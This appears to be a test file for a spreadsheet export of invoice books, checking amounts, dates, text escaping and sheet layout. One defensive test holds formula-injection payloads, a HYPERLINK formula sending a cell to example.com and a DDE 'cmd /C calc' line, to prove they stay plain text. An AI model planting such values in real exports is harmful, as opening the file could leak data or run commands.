/**
 * What stands in the cells of a workbook, read back by a reader of other people's making.
 */
import { assert, describe, it } from "@effect/vitest"
import { Arbitrary, Effect, Schema } from "effect"
import { readXlsx } from "hucre/xlsx"
import { readFileSync } from "node:fs"
import { cell } from "../../sync/export/CellXml.ts"
import { MOST_ROWS } from "../../sync/export/Workbook.ts"
import { decimals } from "../../core/money/Currency.ts"
import { DECIMAL_PLACES } from "../../core/money/Decimal.ts"
import { invoice, payment } from "../support/Documents.ts"
import { books, exported, formatted, shown } from "./Reading.ts"
import { called, keep, NOW } from "./State.ts"

/** The invoices' rows by number. */
const byNumber = (rows: ReadonlyArray<Readonly<Record<string, { readonly v?: unknown }>>>) =>
  new Map(rows.map((row) => [row["Number"]?.v, row as never as Readonly<Record<string, never>>]))

const named = (names: Readonly<Record<string, string>>) =>
  Object.entries(names).map(([id, name]) => invoice({ id, number: id, party: { name } }))

describe("amounts", () => {
  it.effect("are numbers with as many decimals as their currency has", () =>
    Effect.gen(function* () {
      const db = yield* books
      yield* keep(db, "books", [
        invoice({ id: "2", number: "2", currency: "GBP", gross: "1234.50", net: "1000" }),
        invoice({ id: "0", number: "0", currency: "JPY", gross: "1235" }),
        invoice({ id: "3", number: "3", currency: "KWD", gross: "0.005" }),
        payment("P", { "2": "0.10" })
      ])
      const book = yield* exported(db)
      const rows = byNumber(book.table("Invoices"))
      assert.deepStrictEqual(shown(rows.get("2")!["Gross"]), ["n", 1234.5, "#,##0.00"])
      assert.deepStrictEqual(shown(rows.get("2")!["Net"]), ["n", 1000, "#,##0.00"])
      assert.deepStrictEqual(shown(rows.get("2")!["Received"]), ["n", 0.1, "#,##0.00"])
      assert.deepStrictEqual(shown(rows.get("0")!["Gross"]), ["n", 1235, "#,##0"])
      assert.deepStrictEqual(shown(rows.get("3")!["Gross"]), ["n", 0.005, "#,##0.000"])
      assert.deepStrictEqual(
        ["2", "0", "3"].map((number) => formatted(rows.get(number)!["Gross"])),
        ["1,234.50", "1,235", "0.005"]
      )
      // The text in the file is the decimal itself, digit for digit: 1234.50 less 0.10.
      assert.include(book.xml("Invoices"), "<v>1234.40</v>")
    })
  )

  it.effect("of more than 15 digits are text with every digit, because spreadsheets keep 15", () =>
    Effect.gen(function* () {
      const db = yield* books
      const payments = {
        whole: ["JPY", "100000000000000", "23456789012345"],
        longer: ["JPY", "999999999999999", "234567890123457"],
        round: ["JPY", "999999999999999", "234567890123451"],
        pence: ["GBP", "9999999999999.99", "0.00"],
        more: ["GBP", "9999999999999.99", "0.01"],
        most: ["GBP", "12345678901234.56", "0.10"]
      } as const
      yield* keep(
        db,
        "books",
        Object.entries(payments).flatMap(([id, [currency, a, b]]) => [
          payment(id, { a, b }, "2026-01-10", { currency })
        ])
      )
      const rows = (yield* exported(db)).table("Payments")
      const cells = Object.fromEntries(rows.map((row) => [row["Source id"]?.v, shown(row["Amount"])]))
      assert.deepStrictEqual(cells, {
        whole: ["n", 123456789012345, "#,##0"],
        longer: ["s", "1234567890123456"],
        // Sixteen digits, of which fifteen count.
        round: ["n", 1234567890123450, "#,##0"],
        pence: ["n", 9999999999999.99, "#,##0.00"],
        more: ["n", 10000000000000, "#,##0.00"],
        most: ["s", "12345678901234.66"]
      })
    })
  )

  /** What a spreadsheet makes of a number, in minor units: the fifteen digits that it keeps of it. */
  const kept = (number: string, places: number): bigint => {
    const [digits, exponent] = Number(number).toExponential(14).split("e") as [string, string]
    const [all, shift] = [BigInt(digits.replace(".", "")), Number(exponent) - 14 + places]
    return shift < 0 ? all / 10n ** BigInt(-shift) : all * 10n ** BigInt(shift)
  }

  const minor = Arbitrary.schema(Schema.BigInt).pipe(Arbitrary.map((n) => n % 10n ** 19n))
  const currency = Arbitrary.schema(Schema.Literals(["GBP", "JPY", "KWD"]))
  it.prop("of any size stand there digit for digit", { minor, currency }, ({ minor, currency }) => {
    const places = decimals(currency)
    const amount = minor * 10n ** BigInt(DECIMAL_PLACES - places)
    const xml = cell("B2", amount, "money", currency, false)
    const [, number, text] = /<v>(.*)<\/v>|<t>(.*)<\/t>/.exec(xml)!
    const written = (number ?? text)!
    assert.strictEqual(written.split(".")[1]?.length ?? 0, places)
    assert.strictEqual(BigInt(written.replace(".", "")), minor)
    if (number !== undefined) assert.strictEqual(kept(number, places), minor)
    else assert.isAbove(String(minor).replace(/^-|0+$/g, "").length, 15)
  })
})

describe("days and instants", () => {
  it.effect("are what the calendar says, whatever the zone; days that spreadsheets disagree on stay text", () =>
    Effect.gen(function* () {
      const db = yield* books
      const days = ["1899-12-31", "1900-02-28", "1900-03-01", "1904-01-01", "2024-02-29", "2026-10-25", "9999-12-31"]
      yield* keep(
        db,
        "books",
        days.map((due) => invoice({ id: due, number: due, issued: "1899-01-01", due }))
      )
      const rows = byNumber((yield* exported(db)).table("Invoices"))
      const cells = days.map((due) => rows.get(due)!["Due"])
      assert.deepStrictEqual(cells.map(formatted), days)
      assert.deepStrictEqual(cells.slice(0, 5).map(shown), [
        ["s", "1899-12-31"],
        ["s", "1900-02-28"],
        ["n", 61, "yyyy\\-mm\\-dd"],
        ["n", 1462, "yyyy\\-mm\\-dd"],
        ["n", 45351, "yyyy\\-mm\\-dd"]
      ])
    })
  )

  it.effect("instants are UTC, to the millisecond", () =>
    Effect.gen(function* () {
      const db = yield* books
      const book = yield* exported(db)
      const cell = book.table("Summary")[0]!["Generated at (UTC)"]!
      assert.strictEqual(cell.z, "yyyy\\-mm\\-dd\\ hh:mm:ss")
      assert.strictEqual(Math.round(((cell.v as number) - 25569) * 86_400_000), NOW)
      assert.match(formatted(cell), /^2026-11-21 07:00:0/)
    })
  )
})

describe("text", () => {
  it.effect("that looks like a formula is text, and no cell is a formula", () =>
    Effect.gen(function* () {
      const db = yield* books
      const names = {
        equals: '=HYPERLINK("http://example.com/?"&A1,"look")',
        plus: "+1+1",
        minus: "-2+3+cmd|' /C calc'!A0",
        at: "@SUM(1+1)",
        tab: "\t=1+1",
        wide: "＝1+1"
      }
      yield* keep(db, "books", named(names))
      const book = yield* exported(db)
      const rows = byNumber(book.table("Invoices"))
      for (const [id, name] of Object.entries(names)) {
        assert.deepStrictEqual(shown(rows.get(id)!["Customer"]), ["s", name], id)
      }
      for (const sheet of book.names) assert.notInclude(book.xml(sheet), "<f", sheet)
      // Once somebody edits the cell, it is this mark that keeps it text.
      const style = Number(/s="(\d+)"><is><t>\+1\+1</.exec(book.xml("Invoices"))![1])
      const formats = /<cellXfs.*<\/cellXfs>/s.exec(book.part("xl/styles.xml"))![0].match(/<xf .*?(\/>|<\/xf>)/gs)!
      assert.include(formats[style]!, 'quotePrefix="1"')
    })
  )

  it.effect("comes back as it was: markup, line ends, blanks at the ends, emoji, and what XML forbids", () =>
    Effect.gen(function* () {
      const db = yield* books
      const names = {
        markup: `<b>"Tern" & 'Sons'</b> ]]> &amp;`,
        lines: "first\nsecond\r\nthird",
        blanks: "  two before, one after ",
        emoji: "Café 🍋 Łódź 株式会社",
        control: "bell \u0007 null \u0000 escape \u001b",
        escape: "_x0041_ is not A",
        number: "0012",
        date: "1-2",
        huge: "12345678901234567890"
      }
      yield* keep(db, "books", [...named(names), ...named({ half: "half \ud83c of a pair", end: "end \uffff" })])
      const book = yield* exported(db)
      const rows = byNumber(book.table("Invoices"))
      for (const [id, name] of Object.entries(names)) {
        assert.deepStrictEqual(shown(rows.get(id)!["Customer"]), ["s", name], id)
      }
      // Other readers drop blanks at the ends, and line ends, where this is missing.
      for (const text of ["  two before, one after ", "first\nsecond_x000D_\nthird"]) {
        assert.include(book.xml("Invoices"), `<t xml:space="preserve">${text}</t>`)
      }
      assert.deepStrictEqual(shown(rows.get("half")!["Customer"]), ["s", "half \ufffd of a pair"])
      assert.deepStrictEqual(shown(rows.get("end")!["Customer"]), ["s", "end \ufffd"])
    })
  )

  it.effect("ids that look like numbers keep every digit", () =>
    Effect.gen(function* () {
      const db = yield* books
      const id = "90071992547409931234"
      yield* keep(db, "books", [invoice({ id, number: "00017" }), payment("9007199254740993", { [id]: "1" })])
      const book = yield* exported(db)
      assert.deepStrictEqual(shown(book.table("Invoices")[0]!["Number"]), ["s", "00017"])
      assert.deepStrictEqual(shown(book.table("Invoices")[0]!["Document"]), ["s", `books/invoice/${id}`])
      assert.deepStrictEqual(shown(book.table("Payments")[0]!["Source id"]), ["s", "9007199254740993"])
      assert.deepStrictEqual(shown(book.table("Payments")[0]!["Invoices"]), ["s", id])
    })
  )

  it.effect("that is longer than a cell can be is cut with a mark, between characters", () =>
    Effect.gen(function* () {
      const db = yield* books
      const raws = ["x".repeat(32_767), "x".repeat(32_768), "🍋".repeat(20_000), `x${"🍋".repeat(20_000)}`]
      const quarantined = raws.map((raw, i) => ({ kind: "invoice", origin: `a.csv:${i}`, raw, why: "unread" }) as const)
      yield* keep(db, "books", [], quarantined)
      const cells = (yield* exported(db)).table("Quarantined").map((row) => String(row["Raw record"]?.v))
      assert.strictEqual(cells[0], raws[0])
      for (const [i, cell] of cells.slice(1).entries()) {
        assert.isAtMost(cell.length, 32_767)
        assert.isAtLeast(cell.length, 32_766)
        const [kept, mark] = [cell.slice(0, cell.indexOf(" … ")), cell.slice(cell.indexOf(" … "))]
        assert.strictEqual(mark, " … [cut: longer than a cell can be]")
        assert.isTrue(raws[i + 1]!.startsWith(kept) && kept.isWellFormed())
      }
    })
  )
})

describe("sheets", () => {
  const NAMES = ["Summary", "Invoices", "Payments", "Calls", "Attention", "Quarantined", "Completeness"]

  it.effect("of empty books are there, each with its head", () =>
    Effect.gen(function* () {
      const book = yield* exported(yield* books)
      assert.deepStrictEqual(book.names, NAMES)
      assert.deepStrictEqual(
        book.sheets,
        NAMES.map((name) => ({ name, rows: name === "Summary" ? 1 : 0 }))
      )
      for (const name of NAMES.slice(1)) {
        assert.deepStrictEqual(book.table(name), [], name)
        assert.isAbove(Object.keys(book.sheet(name)).filter((key) => /^[A-Z]+1$/.test(key)).length, 5, name)
      }
      assert.deepStrictEqual(shown(book.table("Summary")[0]!["Connection"]), ["s", "All connections"])
    })
  )

  it.effect("have a bold, frozen head, a filter over all of them, and room for what stands in them", () =>
    Effect.gen(function* () {
      const db = yield* books
      yield* keep(db, "books", [invoice({ id: "1" }), invoice({ id: "2" })])
      const book = yield* exported(db)
      assert.deepStrictEqual(book.sheet("Invoices")["!autofilter"], { ref: "A1:V3" })
      assert.deepStrictEqual(book.sheet("Calls")["!autofilter"], { ref: "A1:O1" })
      const styles = book.part("xl/styles.xml")
      const formats = /<cellXfs.*<\/cellXfs>/s.exec(styles)![0].match(/<xf .*?(\/>|<\/xf>)/gs)!
      const fonts = styles.match(/<font>.*?<\/font>/gs)!
      const isBold = (style: number) => fonts[Number(/fontId="(\d+)"/.exec(formats[style]!)![1])]!.includes("<b/>")
      for (const name of NAMES) {
        const xml = book.xml(name)
        assert.match(xml, /<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"\/>/)
        const heads = [.../<row r="1">.*?<\/row>/s.exec(xml)![0].matchAll(/<c r="\w+" t="inlineStr" s="(\d+)">/g)]
        assert.isTrue(heads.length > 5 && heads.every(([, style]) => isBold(Number(style))), name)
        const widths = [...xml.matchAll(/<col min="(\d+)" max="\1" width="(\d+)" customWidth="1"\/>/g)]
        assert.strictEqual(widths.length, heads.length, name)
        const texts = [.../<row r="1">.*?<\/row>/s.exec(xml)![0].matchAll(/<t>(.*?)<\/t>/g)]
        for (const [i, [, , width]] of widths.entries()) assert.isAtLeast(Number(width), texts[i]![1]!.length + 3)
      }
      // Rows that add up are bold too; others are not.
      const [first, last] = [2, book.table("Summary").length + 1].map((n) =>
        Number(new RegExp(`<c r="D${n}" s="(\\d+)">`).exec(book.xml("Summary"))![1])
      )
      assert.deepStrictEqual([isBold(first!), isBold(last!)], [false, true])
    })
  )

  it.effect("that grow past a workbook's rows go on in the next one, head and all", () =>
    Effect.gen(function* () {
      assert.strictEqual(MOST_ROWS, 1_048_576)
      const db = yield* books
      yield* keep(db, "books", [invoice()])
      const call = (n: number) =>
        called(
          db,
          n,
          {
            kind: "invoice",
            subject: "books/invoice/I1",
            fact: "books/invoice/I1",
            rule: "T2",
            operation: "transactions.create",
            params: {},
            body: {},
            destructive: false,
            reason: `reason ${n}`
          },
          201,
          `trns-${n}`
        )
      for (let n = 1; n <= 6; n++) call(n)
      const exactly = yield* exported(db, { rowsPerSheet: 4 })
      assert.deepStrictEqual(exactly.names.slice(3, 6), ["Calls", "Calls 2", "Attention"])
      call(7)
      const book = yield* exported(db, { rowsPerSheet: 4 })
      assert.deepStrictEqual(book.names.slice(3, 7), ["Calls", "Calls 2", "Calls 3", "Attention"])
      assert.deepStrictEqual(
        ["Calls", "Calls 2", "Calls 3"].map((name) => book.table(name).map((row) => row["Because"]?.v)),
        [["reason 1", "reason 2", "reason 3"], ["reason 4", "reason 5", "reason 6"], ["reason 7"]]
      )
      assert.deepStrictEqual(book.sheet("Calls 3")["!autofilter"], { ref: "A1:O2" })
      // Whoever asked counts sheets of the books, not of the file.
      assert.deepStrictEqual(book.sheets[3], { name: "Calls", rows: 7 })
    })
  )

  it.effect("are the same bytes for the same books, and another reader agrees on them", () =>
    Effect.gen(function* () {
      const db = yield* books
      yield* keep(db, "books", [invoice({ gross: "1234.50" }), payment("P1", "10.25")])
      const [one, other] = [yield* exported(db), yield* exported(db)]
      const bytes = readFileSync(one.files[0]!)
      assert.isTrue(bytes.equals(readFileSync(other.files[0]!)))
      const read = yield* Effect.promise(() => readXlsx(bytes))
      assert.deepStrictEqual(
        read.sheets.map(({ name }) => name),
        NAMES
      )
      const [head, row] = read.sheets[1]!.rows
      const cell = (name: string) => row![head!.indexOf(name)]
      assert.deepStrictEqual([cell("Gross"), cell("Balance")], [1234.5, 1224.25])
      assert.deepStrictEqual(cell("Due"), new Date("2026-01-31T00:00:00Z"))
    })
  )
})
